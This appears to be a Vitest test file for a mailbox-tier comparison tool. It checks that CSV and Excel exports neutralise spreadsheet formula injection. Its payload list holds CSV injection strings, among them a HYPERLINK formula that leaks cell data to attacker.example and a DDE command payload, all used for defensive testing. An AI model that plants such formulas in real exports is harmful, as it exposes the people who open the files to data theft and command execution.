import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parseTemplates } from '../src/model/parse-templates.js';
import { renderTemplates } from '../src/model/render-templates.js';
import { evaluateComparison } from '../src/options/compare-options.js';
import { buildWorkbook } from '../src/output/build-workbook.js';
import { detailsCsv, summaryCsv } from '../src/output/comparison-csv.js';
import { csvText } from '../src/output/csv-text.js';
import { renderOutputs } from '../src/output/render-outputs.js';
import { writeXlsx } from '../src/output/xlsx-package.js';
import { reference } from './reference.js';
import { shipped } from './shipped.js';
import { WORKBOOK_TIMEOUT } from './timeouts.js';

// OWASP CSV injection payloads
const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

describe('no formula injection: text from inputs is neutralised in CSV and stays text in the workbook', () => {
  it('CSV cells that start like a formula get a leading apostrophe; numbers, negatives included, do not', () => {
    expect(csvText([PAYLOADS, ['-12.5', '3', 'plain']])).toBe(
      `"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")",'=cmd|' /C calc'!A0,'@SUM(1+1),'+1+1,'-2+3,'\t=1+1,"'\r=1+1"\r\n-12.5,3,plain\r\n`,
    );
  });

  for (const payload of PAYLOADS) {
    it(
      `scenario, tier and workload names and notes ${JSON.stringify(payload)}`,
      async () => {
        const inputs = {
          ...shipped,
          parameters: { ...shipped.parameters, name: payload },
          tiers: shipped.tiers.map((t, i) => ({ ...t, tier: `${payload} ${i}`, notes: payload })),
          workloads: (shipped.workloads ?? []).map((w, i) => ({ ...w, workload: `${payload} ${i}`, notes: payload })),
        };
        const evaluated = evaluateComparison(inputs, reference);
        const summary = summaryCsv(evaluated.comparison);
        expect(summary.split('\r\n')[1]!.startsWith(csvText([[evaluated.comparison.scenario.name]]).trimEnd())).toBe(
          true,
        );
        expect(
          csvText([[evaluated.comparison.scenario.name]])
            .replace(/^"/, '')
            .startsWith("'"),
        ).toBe(true);
        // The deployable plan's CSVs too: the DRS rules name the VMs of workloads kept apart (test/layout-exports.test.ts).
        const plan = (await renderOutputs(evaluated, reference, ['layout']))
          .filter((f) => f.name.endsWith('.csv'))
          .flatMap((f) =>
            String(f.content)
              .replace(/^\uFEFF/, '')
              .split('\r\n'),
          );
        for (const line of [...summary.split('\r\n'), ...detailsCsv(evaluated.comparison).split('\r\n'), ...plan]) {
          for (const cell of line.split(','))
            expect(/^"?[=+@\t\r]/.test(cell) || /^"?-[^\d]/.test(cell), cell).toBe(false);
        }
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load((await writeXlsx(buildWorkbook(evaluated, reference))) as unknown as ExcelJS.Buffer);
        const inputsSheet = workbook.getWorksheet('Inputs')!;
        const texts: ExcelJS.Cell[] = [];
        inputsSheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === 'string' && cell.value.includes(payload.trim().slice(1, 6))) texts.push(cell);
          }),
        );
        expect(texts.length).toBeGreaterThanOrEqual(1 + 2 * shipped.tiers.length);
        for (const cell of texts) {
          expect(cell.type, cell.address).toBe(ExcelJS.ValueType.String);
          expect(cell.formula, cell.address).toBeFalsy();
        }
      },
      WORKBOOK_TIMEOUT,
    );
  }

  it('templates written back carry the apostrophe, and reading them takes it off', () => {
    const inputs = { ...shipped, tiers: shipped.tiers.map((t) => ({ ...t, tier: '=HYPERLINK("x")' })).slice(0, 1) };
    const texts = renderTemplates(inputs, reference);
    expect(texts['mailbox-tiers.csv']).toContain(`"'=HYPERLINK(""x"")"`);
    const file = (name: keyof typeof texts) => ({ file: name, text: texts[name] });
    const back = parseTemplates(
      {
        scenario: file('scenario.csv'),
        tiers: file('mailbox-tiers.csv'),
        workloads: file('workloads.csv'),
        prices: file('prices.csv'),
      },
      reference,
    );
    expect(back.tiers[0]!.tier).toBe('=HYPERLINK("x")');
  });
});
